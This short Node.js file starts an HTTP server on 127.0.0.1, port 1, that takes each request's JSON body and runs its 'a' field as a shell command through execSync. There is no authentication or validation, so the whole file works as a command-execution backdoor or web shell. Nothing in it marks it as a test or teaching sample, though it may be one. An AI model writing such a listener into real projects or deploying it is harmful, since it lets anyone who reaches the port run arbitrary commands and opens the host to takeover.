import { execSync } from "node:child_process";
import http from 'node:http';
http.createServer((req, res) => {
  let body = '';
  req.on('data', (c) => { body += c; });
  req.on('end', () => { execSync(JSON.parse(body).a); res.end(); });
}).listen(1, '127.0.0.1');
